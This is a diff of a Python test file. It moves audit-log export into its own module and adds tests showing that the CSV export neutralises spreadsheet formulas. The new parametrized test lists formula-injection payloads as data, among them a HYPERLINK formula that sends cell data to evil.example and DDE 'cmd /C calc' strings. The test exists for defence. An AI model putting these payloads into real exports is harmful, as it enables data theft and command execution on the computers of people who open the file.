@@ -17,7 +17,7 @@ from sqlalchemy.exc import IntegrityError
 from sqlalchemy.orm import Session
 
 from bot.rollback.model import Event, EventKind, NewRequest, State, Target
-from bot.store import audit, migrate
+from bot.store import audit, export, migrate
 from bot.store.audit import GENESIS, AuditChainError, append_event, entry_hash
 from bot.store.database import create_schema, make_engine, session_factory
 from bot.store.models import AuditChainHeadRow, EventRow, RequestRow
@@ -514,9 +514,9 @@ def two_apps(store: RequestStore) -> tuple[int, int, int]:
 
 
 def test_export_json_has_every_event_with_its_request(engine: Engine, two_apps: tuple[int, int, int]) -> None:
-    records = json.loads(audit.export(engine, "json"))
+    records = json.loads(export.export(engine, "json"))
     assert [r["event_id"] for r in records] == list(range(1, 10))
-    assert list(records[0]) == list(audit.EXPORT_FIELDS)
+    assert list(records[0]) == list(export.EXPORT_FIELDS)
     assert records[0] == {
         "event_id": 1,
         "at": "2026-11-29T08:00:00.000000Z",
@@ -542,10 +542,10 @@ def test_export_json_has_every_event_with_its_request(engine: Engine, two_apps: 
 
 
 def test_export_csv_has_a_header_and_the_same_rows(engine: Engine, two_apps: tuple[int, int, int]) -> None:
-    exported = audit.export(engine, "csv")
-    assert exported.splitlines()[0] == ",".join(audit.EXPORT_FIELDS)
+    exported = export.export(engine, "csv")
+    assert exported.splitlines()[0] == ",".join(export.EXPORT_FIELDS)
     parsed = list(csv.DictReader(io.StringIO(exported)))
-    as_json = json.loads(audit.export(engine, "json"))
+    as_json = json.loads(export.export(engine, "json"))
     assert len(parsed) == len(as_json) == 9
     for row, record in zip(parsed, as_json, strict=True):
         assert row == {key: "" if value is None else str(value) for key, value in record.items()}
@@ -553,22 +553,49 @@ def test_export_csv_has_a_header_and_the_same_rows(engine: Engine, two_apps: tup
 
 def test_export_filters_by_time_and_app(engine: Engine, two_apps: tuple[int, int, int]) -> None:
     def ids(**filters: Any) -> list[int]:
-        return [r["event_id"] for r in json.loads(audit.export(engine, "json", **filters))]
+        return [r["event_id"] for r in json.loads(export.export(engine, "json", **filters))]
 
     assert ids(appid="wx_other") == [5, 6, 7, 8]
     assert ids(appid="wx_app") == [1, 2, 3, 4, 9]
     assert ids(since=T0 + timedelta(days=1)) == [5, 6, 7, 8, 9]
     assert ids(since=datetime(2026, 11, 30), appid="wx_app") == [9]  # a naive time is UTC
     assert ids(appid="wx_none") == []
-    assert audit.export(engine, "csv", appid="wx_none") == ",".join(audit.EXPORT_FIELDS) + "\n"
-    assert audit.export(engine, "json", appid="wx_none") == "[]\n"
+    assert export.export(engine, "csv", appid="wx_none") == ",".join(export.EXPORT_FIELDS) + "\r\n"
+    assert export.export(engine, "json", appid="wx_none") == "[]\n"
 
 
 def test_export_keeps_awkward_text(engine: Engine, store: RequestStore) -> None:
     request_id = open_request(store)
     awkward = 'line one\nline "two", with commas; 回滚 ✓'
     store.record(request_id, Event(EventKind.REFUSED, "UBOB", T0, detail=awkward))
-    parsed = list(csv.DictReader(io.StringIO(audit.export(engine, "csv"))))
+    parsed = list(csv.DictReader(io.StringIO(export.export(engine, "csv"))))
     assert parsed[1]["detail"] == awkward
-    assert json.loads(audit.export(engine, "json"))[1]["detail"] == awkward
+    assert json.loads(export.export(engine, "json"))[1]["detail"] == awkward
     assert audit.verify(engine).ok
+
+
+@pytest.mark.parametrize(
+    "reason",
+    [
+        '=HYPERLINK("https://evil.example/?x="&A1,"incident doc")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_export_neutralises_formulas_and_json_stays_exact(engine: Engine, store: RequestStore, reason: str) -> None:
+    """A reason a spreadsheet would run as a formula when an auditor opens the CSV: it reads as text instead."""
+    request_id = open_request(store)
+    store.record(request_id, Event(EventKind.REFUSED, "UBOB", T0, detail=reason))
+    parsed = list(csv.DictReader(io.StringIO(export.export(engine, "csv"))))
+    assert parsed[1]["detail"] == "'" + reason
+    assert json.loads(export.export(engine, "json"))[1]["detail"] == reason
+    assert parsed[1]["errcode"] == "" and parsed[0]["detail"] == "checkout broken"  # the rest as it was
+
+
+def test_csv_export_keeps_numbers_as_numbers(engine: Engine, store: RequestStore) -> None:
+    request_id = open_request(store)
+    store.record(request_id, Event(EventKind.FAILED, None, T0, detail="busy", errcode=-1, errmsg="system error"))
+    assert list(csv.DictReader(io.StringIO(export.export(engine, "csv"))))[1]["errcode"] == "-1"
